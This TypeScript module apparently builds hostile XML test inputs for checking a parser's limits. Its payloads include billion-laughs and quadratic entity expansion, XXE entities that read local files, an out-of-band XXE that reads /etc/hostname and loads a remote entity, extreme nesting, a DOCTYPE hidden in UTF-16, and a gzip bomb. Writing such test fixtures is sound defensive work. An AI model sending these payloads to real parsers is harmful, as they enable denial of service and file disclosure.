import { gzipSync } from 'node:zlib';

// Parser attacks, written around a valid document so that only the attack is wrong: entity expansion,
// external entities and DTDs, depth, breadth and size beyond the limits, two roots, encodings that
// hide a DOCTYPE. Each returns the hostile document (text, or bytes where the encoding is the attack).

const XML_DECLARATION = /^<\?xml[^>]*\?>/;

/** `doctype` placed where a DOCTYPE goes (after the XML declaration, if any), and `ref` replacing `at` once. */
export function withDoctype(xml: string, doctype: string, use?: { readonly at: string; readonly ref: string }): string {
  const declaration = XML_DECLARATION.exec(xml)?.[0] ?? '';
  let body = xml.slice(declaration.length);
  if (use) {
    const i = body.indexOf(use.at);
    if (i === -1) throw new Error(`"${use.at}" is not in the document`);
    body = body.slice(0, i) + use.ref + body.slice(i + use.at.length);
  }
  return declaration + doctype + body;
}

/** The root element's qualified name, which a DOCTYPE names. */
export function rootName(xml: string): string {
  const m = /<([A-Za-z_][\w.:-]*)/.exec(xml.replace(XML_DECLARATION, ''));
  if (!m) throw new Error('no root element');
  return m[1] as string;
}

/** Billion laughs: ten levels of entities, each ten of the one below (10^9 "lol"s); use &lol9;. */
export function billionLaughs(root: string): string {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  return `<!DOCTYPE ${root} [${entities.join('')}]>`;
}

/** Quadratic blowup: one large entity referenced many times (no nesting for a depth limit to catch). */
export const quadraticBlowup = (root: string): string => `<!DOCTYPE ${root} [<!ENTITY a "${'a'.repeat(50_000)}">]>`;

/** XXE: an external entity naming a local file; use &xxe;. */
export const externalEntity = (root: string, url: string): string => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "${url}">]>`;

/** An external DTD subset fetched from `url`. */
export const externalDtd = (root: string, url: string): string => `<!DOCTYPE ${root} SYSTEM "${url}">`;

/** Out-of-band XXE: an external parameter entity that defines an entity leaking a file to `url`. */
export const parameterEntities = (root: string, url: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % remote SYSTEM "${url}">%remote;]>`;

/** `depth` nested elements of a private namespace, as one header block or token child. */
export const nested = (depth: number): string =>
  `${'<x:d xmlns:x="urn:example:deep">'.repeat(depth)}${'</x:d>'.repeat(depth)}`;

/** `depth` nested one-letter elements: ten thousand levels still fit in a small body. */
export const nestedCompact = (depth: number): string => `${'<d>'.repeat(depth)}${'</d>'.repeat(depth)}`;

/** `count` sibling elements inside one. */
export const many = (count: number): string => `<x:m xmlns:x="urn:example:many">${'<x:e/>'.repeat(count)}</x:m>`;

/** An element carrying `count` attributes. */
export const manyAttributes = (count: number): string =>
  `<x:a xmlns:x="urn:example:attrs"${Array.from({ length: count }, (_, i) => ` a${i}="v"`).join('')}/>`;

/** A comment of `bytes` characters: makes a document larger without changing what it says. */
export const padding = (bytes: number): string => `<!--${'x'.repeat(bytes)}-->`;

/** A second root element after the document. */
export const secondRoot = (xml: string, root: string): string => `${xml}${root}`;

/**
 * The document in UTF-16LE with a BOM and a DOCTYPE: read as UTF-8, the DOCTYPE's letters are
 * interleaved with NULs, so a byte-level "<!DOCTYPE" check alone would not see it.
 */
export function utf16WithDoctype(xml: string, doctype: string): Buffer {
  const text = withDoctype(xml.replace(/encoding="utf-8"/i, 'encoding="UTF-16"'), doctype);
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

/** A gzip bomb: megabytes of zeros that compress to a few kilobytes, sent as the body. */
export const gzipBomb = (megabytes: number): Buffer => gzipSync(Buffer.alloc(megabytes * 1024 * 1024, '<'));
